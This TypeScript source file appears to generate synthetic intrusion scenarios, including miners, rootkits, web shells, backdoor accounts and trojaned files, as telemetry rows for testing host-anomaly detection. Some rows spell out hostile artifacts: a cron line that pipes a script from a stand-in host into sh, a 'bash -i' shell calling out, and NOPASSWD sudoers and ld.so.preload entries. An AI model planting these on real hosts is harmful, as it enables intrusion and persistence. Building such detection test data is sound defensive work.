import type { Random } from '../../../simulator/fleet/random.ts'
import type { Row, RowKind } from './ground-truth.ts'
import { roleRows } from './roles.ts'
import { account, cronJob, file, outbound, port, program, type Rows, sha256, unit } from './rows.ts'

/** One change of a host: a row more, a row less, or a row in the place of another. */
export interface RowEdit {
  readonly kind: RowKind
  readonly query: string
  /** What is there; for a missing row what was. */
  readonly row: Row
  /** For a changed row what was there. */
  readonly previous: Row | null
}

/** Draws what an intruder does to a host that has `rows`: at most `most` edits. */
export type DrawEdits = (random: Random, rows: Rows, most: number, role: string) => RowEdit[]

const added = (query: string, row: Row): RowEdit => ({ kind: 'unexpected', query, row, previous: null })
const removed = (query: string, row: Row): RowEdit => ({ kind: 'missing', query, row, previous: null })

/** `count` different elements, in random order. */
export function sample<T>(random: Random, list: readonly T[], count: number): T[] {
  const left = [...list]
  const taken: T[] = []
  while (taken.length < count && left.length > 0)
    taken.push(...left.splice(random.between(0, left.length - 1), 1))
  return taken
}

/** A name that nothing else in the fleet has. */
function freshName(random: Random): string {
  const stem = random.pick([
    'sys',
    'net',
    'kdev',
    'dbus',
    'cron',
    'log',
    'ud',
    'gpu',
    'mem',
    'snap',
    'x',
    'svc'
  ])
  return `${stem}${random.letters(random.between(3, 6)).toLowerCase()}${random.pick(['d', '', '-helper', '_agent'])}`
}

const SERVERS = [
  '/usr/sbin/nginx',
  '/usr/bin/node',
  '/usr/bin/java',
  '/usr/sbin/php-fpm8.2',
  '/usr/sbin/apache2',
  '/usr/bin/puma'
]

const KITS: readonly ((random: Random) => RowEdit[])[] = [
  // A miner.
  random => {
    const name = freshName(random)
    const path = `/tmp/.${random.letters(5)}/${name}`
    return [
      added('temporary_programs', { ...program(path, 'www-data'), cwd: '/tmp' }),
      added(
        'crontab',
        cronJob(
          '/var/spool/cron/crontabs/www-data',
          `curl -fsSL http://198.51.100.${random.between(2, 250)}/${name}.sh | sh`
        )
      ),
      added('outbound', outbound(path, random.pick([3333, 4444, 14444]), '198.51.100.7')),
      added('systemd_units', unit(`${name}.service`, `/etc/systemd/system/${name}.service`)),
      added('boot_scripts', file(`/etc/systemd/system/${name}.service`, name)),
      added('hidden_files', {
        path: path.slice(0, path.lastIndexOf('/')),
        type: 'directory',
        mode: '0700',
        uid: '33'
      }),
      added('programs', program(`/var/lib/${name}/${name}`, 'www-data')),
      added('listening_ports', port(random.between(20000, 30000), `/var/lib/${name}/${name}`, 'loopback'))
    ]
  },
  // A rootkit.
  random => {
    const name = freshName(random).replace(/-/g, '_')
    return [
      added('kernel_modules', { name, size: '57344', used_by: '-', status: 'Live' }),
      added('preload_file', file('/etc/ld.so.preload', name)),
      added('hidden_files', { path: `/usr/lib/.${name}`, type: 'regular', mode: '0755', uid: '0' }),
      added('system_hooks', file(`/etc/modules-load.d/${name}.conf`, name)),
      added('packet_sockets', { path: `/usr/lib/.${name}/x`, family: '17', protocol: '3', name }),
      added('proc_mounts', { path: '/proc/4221', type: 'ext4', flags: 'rw', device: '/dev/root' })
    ]
  },
  // A new account.
  random => {
    const name = freshName(random)
    return [
      added('users', account(name, '/bin/bash', random.between(1001, 1400))),
      added('passwords', { username: name, password_status: 'active', hash_alg: 'yescrypt' }),
      added('authorized_keys', {
        username: name,
        algorithm: 'ssh-rsa',
        key: `AAAAB3${random.letters(40)}`,
        options: '',
        comment: '',
        key_file: `/home/${name}/.ssh/authorized_keys`
      }),
      added('sudoers', {
        header: name,
        rule_details: 'ALL=(ALL) NOPASSWD: ALL',
        source: `/etc/sudoers.d/90-${name}`
      }),
      added('admin_groups', { groupname: random.pick(['sudo', 'docker', 'adm']), username: name }),
      added('crontab', cronJob(`/var/spool/cron/crontabs/${name}`, `/home/${name}/.cache/update`)),
      added('programs', program(`/home/${name}/.cache/update`, name))
    ]
  },
  // A web shell that calls home.
  random => {
    const name = freshName(random)
    return [
      added('service_shells', {
        path: '/usr/bin/dash',
        parent_path: random.pick(SERVERS),
        username: 'www-data',
        reach: '',
        cmdline: 'sh -c id'
      }),
      added('shell_connections', {
        path: '/usr/bin/bash',
        username: 'www-data',
        name: 'bash',
        cmdline: 'bash -i',
        parent_path: '/usr/bin/dash',
        peer: 'public',
        remote_address: '203.0.113.9',
        remote_port: '443'
      }),
      added('temporary_programs', { ...program(`/dev/shm/${name}`, 'www-data'), cwd: '/dev/shm' }),
      added('outbound', outbound('/usr/bin/bash', 443, '203.0.113.9')),
      added('setuid_elsewhere', { path: `/var/tmp/.${name}`, mode: '4755', uid: '0', size: '1183448' }),
      added('hidden_files', { path: `/var/tmp/.${name}`, type: 'regular', mode: '4755', uid: '0' })
    ]
  },
  // An agent of a command-and-control framework.
  random => {
    const name = freshName(random)
    const path = `/usr/local/sbin/${name}`
    const number = random.between(2000, 9900)
    return [
      added('programs', program(path)),
      added('listening_ports', port(number, path)),
      added('outbound', outbound(path, random.pick([443, 8443, 53]), '203.0.113.77')),
      added('systemd_units', unit(`${name}.service`, `/etc/systemd/system/${name}.service`)),
      added('boot_scripts', file(`/etc/systemd/system/${name}.service`, name)),
      added('firewall', {
        filter_name: 'filter',
        chain: 'INPUT',
        policy: '',
        target: 'ACCEPT',
        protocol: '6',
        src_port: '',
        dst_port: String(number),
        src_ip: '0.0.0.0',
        dst_ip: '0.0.0.0',
        iniface: 'all',
        outiface: 'all'
      }),
      added('file_capabilities', {
        path,
        key: 'security.capability',
        value: random.pick(['cap_setuid=ep', 'cap_net_admin,cap_net_raw=ep'])
      })
    ]
  },
  // Code that runs only from memory.
  random => {
    const name = freshName(random)
    return [
      added('memory_only_programs', { ...program(`/memfd:${name} (deleted)`), name, cwd: '/' }),
      added('kernel_thread_impostors', {
        ...program('/usr/bin/perl'),
        name: 'kworker/0:2',
        cmdline: '[kworker/0:2]'
      }),
      added('outbound', outbound('/usr/bin/perl', random.between(4000, 9000), '198.51.100.99')),
      added('loader_environment', {
        path: '/usr/sbin/sshd',
        key: 'LD_PRELOAD',
        value: `/usr/lib/lib${name}.so`,
        name: 'sshd'
      }),
      added('login_config', file(`/etc/pam.d/${name}`, name))
    ]
  }
]

/** 2 to 8 rows of one kit. */
export const kit: DrawEdits = (random, _rows, most) =>
  sample(random, random.pick(KITS)(random), Math.max(2, most))

/** Rows that imitate those of the host: one letter more, a file beside the real one. */
export const mimicry: DrawEdits = (random, rows, most) => {
  const like = random.pick(rows.systemd_units ?? [])
  const id = (like.id ?? 'x.service').replace('.', `${random.pick(['d', '2', '-daemon', 's'])}.`)
  const path = (random.pick(rows.programs ?? []).path ?? '/usr/sbin/x').concat(
    random.pick(['-bin', 'd', '.real', '2'])
  )
  return sample(
    random,
    [
      added('systemd_units', unit(id)),
      added('programs', program(path)),
      added('listening_ports', port(random.pick([8081, 8444, 9101, 5433, 2222]), path)),
      added(
        'boot_scripts',
        file(`/etc/cron.daily/${random.pick(['apt-compatd', 'logrotated', 'dpkg-update'])}`, path)
      ),
      added('outbound', outbound(path, 443, '52.94.0.77')),
      added('crontab', cronJob('/etc/cron.d/sysstat-update', `root ${path} 1 1`))
    ],
    Math.min(5, Math.max(2, most))
  )
}

/** What is normal in another role. */
export const otherRole: DrawEdits = (random, rows, most, role) => {
  const other = random.pick(
    ['web', 'api', 'worker', 'database', 'cache', 'queue'].filter(name => name !== role)
  )
  const has = (query: string, row: Row) =>
    (rows[query] ?? []).some(mine => JSON.stringify(mine) === JSON.stringify(row))
  const candidates = Object.entries(roleRows(other)).flatMap(([query, list]) =>
    list.filter(row => query !== 'packages' && !has(query, row)).map(row => added(query, row))
  )
  return sample(random, candidates, Math.max(2, most))
}

/** Protections that are gone: stopped, removed, opened. */
export const stopped: DrawEdits = (random, rows, most) => {
  const control = random.pick(
    (rows.security_controls ?? []).filter(row => !(row.id ?? '').startsWith('systemd'))
  )
  const base = (control.id ?? '').replace('.service', '')
  const gone = (query: string, test: (row: Row) => boolean): RowEdit[] =>
    (rows[query] ?? [])
      .filter(test)
      .slice(0, 1)
      .map(row => removed(query, row))
  const edits = [
    {
      kind: 'changed' as const,
      query: 'security_controls',
      row: { ...control, state: 'stopped', active_state: 'inactive' },
      previous: control
    },
    ...gone('systemd_units', row => (row.id ?? '').startsWith(base)),
    ...gone('programs', row => (row.path ?? '').includes(base)),
    ...gone('programs', row => row.path === '/usr/sbin/auditd'),
    ...gone('firewall', row => row.policy === 'DROP'),
    ...gone('firewall', row => row.dst_port === '443'),
    ...gone('boot_scripts', row => row.path === '/etc/cron.daily/logrotate')
  ]
  const different = edits.filter((edit, at) => edits.findIndex(one => one.row === edit.row) === at)
  return sample(random, different, Math.min(5, Math.max(2, most)))
}

const FILES = ['core_programs', 'pam_modules', 'boot_scripts', 'login_config', 'system_hooks'] as const
const PER_HOST = new Set(['/etc/cron.hourly/inventory-splay', '/etc/udev/rules.d/75-cloud-ifupdown.rules'])

function trojan(random: Random, query: string, rows: Rows): RowEdit | null {
  const files = (rows[query] ?? []).filter(row => !PER_HOST.has(row.path ?? ''))
  if (files.length === 0) return null
  const previous = random.pick(files)
  return { kind: 'changed', query, row: { ...previous, sha256: sha256(random.hex(32)) }, previous }
}

/** Files with other content, settings with other values. */
export const changed: DrawEdits = (random, rows, most) => {
  const edits: RowEdit[] = []
  for (const query of sample(
    random,
    [...FILES, 'core_programs', 'pam_modules', 'login_config'],
    Math.max(2, most)
  )) {
    const edit = trojan(random, query, rows)
    if (edit !== null && !edits.some(one => one.previous === edit.previous)) edits.push(edit)
  }
  const user = random.pick((rows.users ?? []).filter(row => row.shell === '/usr/sbin/nologin'))
  const opened: RowEdit = {
    kind: 'changed',
    query: 'users',
    row: { ...user, shell: '/bin/bash' },
    previous: user
  }
  return edits.length < 2 || random.chance(0.3) ? [...edits.slice(0, 7), opened] : edits
}

/** One row in a table that is quiet on healthy hosts. */
export const oneRow: DrawEdits = (random, rows) => {
  const name = freshName(random)
  const setting = random.pick((rows.sysctls ?? []).filter(row => row.current_value !== '0'))
  const user = random.pick((rows.users ?? []).filter(row => row.shell === '/usr/sbin/nologin'))
  const draws: readonly (() => RowEdit | null)[] = [
    () =>
      added('kernel_modules', { name: name.replace(/-/g, '_'), size: '20480', used_by: '-', status: 'Live' }),
    () =>
      added('setuid_files', {
        path: `/usr/bin/${name}`,
        username: 'root',
        groupname: 'root',
        permissions: 'S'
      }),
    () =>
      added('authorized_keys', {
        username: 'root',
        algorithm: 'ssh-ed25519',
        key: `AAAAC3${random.letters(40)}`,
        options: '',
        comment: '',
        key_file: '/root/.ssh/authorized_keys'
      }),
    () =>
      added('sudoers', {
        header: 'www-data',
        rule_details: 'ALL=(ALL) NOPASSWD: ALL',
        source: '/etc/sudoers'
      }),
    () => added('preload_file', file('/etc/ld.so.preload', name)),
    () => added('users', account(name, '/bin/sh', random.between(1001, 1400))),
    () => added('admin_groups', { groupname: 'sudo', username: 'www-data' }),
    () => ({ kind: 'changed', query: 'users', row: { ...user, shell: '/bin/bash' }, previous: user }),
    () => ({
      kind: 'changed',
      query: 'sysctls',
      row: { ...setting, current_value: setting.name === 'kernel.core_pattern' ? `|/tmp/${name}` : '0' },
      previous: setting
    }),
    () => added('login_config', file(`/etc/ssh/sshd_config.d/99-${name}.conf`, name)),
    () => trojan(random, 'core_programs', rows),
    () => trojan(random, 'pam_modules', rows),
    () => trojan(random, 'login_config', rows)
  ]
  const edit = random.pick(draws)()
  return edit === null ? [] : [edit]
}

/** A tool that a team installs on its hosts, which is not an incident. */
export const toolset: DrawEdits = random => {
  const name = `${random.pick(['perf', 'debug', 'trace', 'bench'])}kit-${random.letters(3).toLowerCase()}`
  return [
    ...['', '-common', '-doc', '-dev', '-plugins'].map(part =>
      added('packages', { name: `${name}${part}`, kind: 'deb' })
    ),
    added('programs', program(`/opt/${name}/bin/collector`, 'nobody')),
    added('systemd_units', unit(`${name}.service`)),
    added('kernel_modules', { name: name.replace('-', '_'), size: '20480', used_by: '-', status: 'Live' })
  ]
}
